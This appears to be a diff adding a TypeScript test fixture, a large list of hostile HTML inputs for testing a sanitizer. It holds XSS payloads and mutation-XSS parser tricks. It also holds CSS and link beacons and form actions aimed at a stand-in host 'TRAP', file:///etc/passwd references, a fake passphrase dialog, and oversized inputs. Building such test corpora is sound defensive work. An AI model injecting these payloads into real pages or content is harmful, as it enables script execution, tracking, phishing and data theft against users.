@@ -1,0 +1,45 @@
+/** HTML that tries to run, to ask the network, to move the frame or to cover the window; `TRAP` stands for the address of a listening server. */
+export const nastyLetters: readonly string[] = [
+  // scripts, in all spellings
+  '<script>alert(1)</script>', '<SCRIPT SRC=TRAP/a.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/src=data:,alert(1)></script>',
+  '<img src=x onerror=alert(1)>', '<img src="data:image/png;base64,AAAA" onerror=alert(1)>', '<img/src="x"/onerror="alert(1)">', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
+  '<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<video onloadstart=alert(1) src=TRAP/v.mp4></video>',
+  '<audio src=TRAP/a.mp3 autoplay></audio>', '<style onload=alert(1)></style>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=TRAP/frame></iframe>', '<frameset><frame src=TRAP/f></frameset>', '<portal src=TRAP/p></portal>', '<fencedframe src=TRAP/p></fencedframe>',
+  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#x3A;alert(1)',
+    '\u0001javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'blob:x', 'filesystem:x', 'view-source:TRAP',
+    'file:///etc/passwd', 'feed:javascript:alert(1)', 'livescript:x', 'mocha:x', '//TRAPHOST/x', '/x', 'x', '', '#top', 'http://[::1', 'app://desk/index.html', 'ms-settings:', 'search-ms:query=x',
+  ].map((address) => `<a href="${address}">link</a><area href="${address}"><form action="${address}"></form>`),
+  // foreign namespaces and parsers that disagree (mutation XSS)
+  '<svg><script>alert(1)</script></svg>', '<svg onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><set attributeName=href to="javascript:alert(1)"><a id=x><text>x</text></a></svg>', '<svg><use href="TRAP/s.svg#x"></use></svg>', '<svg><image href="TRAP/i.png"></image></svg>', '<svg><foreignObject><iframe src=TRAP></iframe></foreignObject></svg>',
+  '<svg><style>@import "TRAP/s.css";</style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<svg><feImage href="TRAP/f"></feImage></svg>',
+  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math href="javascript:alert(1)">CLICK</math>', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<noframes><style></noframes><img src=x onerror=alert(1)></style>',
+  '<xmp><p title="</xmp><svg/onload=alert(1)>">', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<title><img title="</title><img src=x onerror=alert(1)>"></title>', '<plaintext><img src=x onerror=alert(1)>',
+  '<select><template><img src=x onerror=alert(1)></template></select>', '<template><script>alert(1)</script><img src=TRAP/t></template>', '<template shadowrootmode=open><img src=TRAP/s><script>alert(1)</script></template>',
+  '<table><tr><td><form><table></form></td></tr><svg><p><style><g title="</style><img src onerror=alert(1)>">', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<a\u0000href="javascript:alert(1)">x</a>', '<img src=x:x onerror\u000b=alert(1)>', '\u003c!doctype html><html manifest=TRAP/m><body background=TRAP/b>x',
+  // the network without a script
+  ...['src', 'srcset', 'lowsrc', 'dynsrc', 'data-src', 'longdesc'].map((name) => `<img ${name}="TRAP/i.png">`), '<img src="//TRAPHOST/i.png">', '<img src=TRAP/pixel.gif width=1 height=1 alt="">', '<picture><source srcset="TRAP/p.webp"><img src="TRAP/p.png"></picture>',
+  '<img srcset="TRAP/a.png 1x, TRAP/b.png 2x" sizes=100vw>', '<video poster=TRAP/p.jpg><track src=TRAP/t.vtt><source src=TRAP/v></video>', '<input type=image src=TRAP/i.png>', '<image src=TRAP/i.png>', '<bgsound src=TRAP/b>',
+  '<table background=TRAP/t><tr background=TRAP/r><td background=TRAP/d>x</td></tr></table>', '<object data=TRAP/o><param name=movie value=TRAP/p></object>', '<embed src=TRAP/e>', '<applet code=x codebase=TRAP></applet>',
+  ...['stylesheet', 'prefetch', 'preload', 'prerender', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest', 'import', 'next'].map((rel) => `<link rel=${rel} href=TRAP/l as=script>`),
+  '<style>@import url(TRAP/s.css); p { background: url(TRAP/b) }</style><p>x</p>', '<style>@font-face { font-family: x; src: url(TRAP/f) } p { font-family: x }</style><p>x</p>',
+  ...['background: url(TRAP/b)', 'background-image: url("TRAP/b")', 'background: u\\72l(TRAP/b)', 'background: url(/**/TRAP/b)', 'background:image-set("TRAP/b" 1x)', 'background-image: -webkit-image-set(url(TRAP/b) 1x)', 'list-style: url(TRAP/l)', 'cursor: url(TRAP/c), auto',
+    'content: url(TRAP/c)', 'border-image: url(TRAP/b) 1', 'mask: url(TRAP/m#x)', 'filter: url(TRAP/f#x)', 'clip-path: url(TRAP/c#x)', 'src: url(TRAP/s)', '--x: url(TRAP/v); background: var(--x)', 'width: expression(alert(1))', 'behavior: url(TRAP/h.htc)', '-moz-binding: url(TRAP/x#y)',
+    'color: red; } p { background: url(TRAP/b)', 'font-family: "x"; background: url(TRAP/b)', 'background: url(javascript:alert(1))', '@import "TRAP/s"', 'shape-outside: url(TRAP/s)', 'background: cross-fade(url(TRAP/a), url(TRAP/b))', 'background: src("TRAP/b")',
+  ].map((style) => `<p style='${style}'>styled</p>`),
+  '<meta http-equiv=refresh content="0;url=TRAP/m">', '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', '<meta http-equiv=set-cookie content=x>', '<meta http-equiv="Content-Security-Policy" content="report-uri TRAP/r; img-src *">', '<base href=TRAP/ target=_top><a href="x">x</a><img src=i.png>',
+  '<a href=TRAP/x ping=TRAP/p target=_top download=x.exe>x</a>', '<form action=TRAP/f method=post><input name=a value=b><button formaction=TRAP/g>x</button><input type=submit></form>', '<isindex action=TRAP/i prompt=x>', '<button form=f formaction=TRAP/b>x</button>',
+  '<a href="https://bank.example" target=_blank>x</a>', '<map name=m><area shape=default href=TRAP/m></map><img usemap=#m src="data:image/png;base64,AAAA">', '<a href="mailto:a@b.example?subject=x&attach=/etc/passwd">x</a>',
+  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>alert(1)</script></svg>">', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src="data:text/html,<script>alert(1)</script>">', '<img src=cid:part1@mail>', '<img src="blob:http://x/y">', '<img src="file:///etc/hostname">',
+  // out of the frame, over the window, the program's own names
+  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div>', '<div style="margin-top:-500px">up</div>', '<div style="transform:scale(50)">big</div>', '<p style="font-size:99999px">x</p>', '<dialog open>Passphrase?<input type=password></dialog>', '<p popover id=p>x</p><button popovertarget=p>x</button>',
+  '<form id=attributes><input name=nodeName></form>', '<img name=body><img id=getElementById name=cookie>', '<a id=defaultView></a><a id=location href="javascript:alert(1)"></a>', '<p contenteditable>x</p>', '<keygen>', '<menu><command label=x onclick=alert(1)></menu>', '<slot></slot><my-element is=x-y></my-element>',
+  // deep, long, broken
+  `${'<div>'.repeat(20_000)}<img src=TRAP/deep onerror=alert(1)>`, `${'</x><b>'.repeat(20_000)}<script>alert(1)</script>`, `<p ${Array.from({ length: 100_000 }, (_, place) => `a${place}`).join(' ')} onclick=alert(1)>x</p>`,
+  `${'<table><tr><td>'.repeat(150)}<img src=TRAP/t onerror=alert(1)>`, `${'<a href=TRAP>'.repeat(190)}<p>${'<p>x'.repeat(3000)}<script>alert(1)</script>`, `<p>${'x'.repeat(1_100_000)}<script>alert(1)</script>`, '<', '<!', '<!--', '</', '<a', '<a href="', '&', '\u0000', '\ud800', '<p style="',
+  '<img src="data:image/png;base64,iVBORw0KGgo=<script>alert(1)</script>">', '<img src="data:image/png;base64,AAAA\' onerror=alert(1) \'">', 'picture-00000000000000000000000000000000-0-', '<img src="picture-00000000000000000000000000000000-0-">',
+]
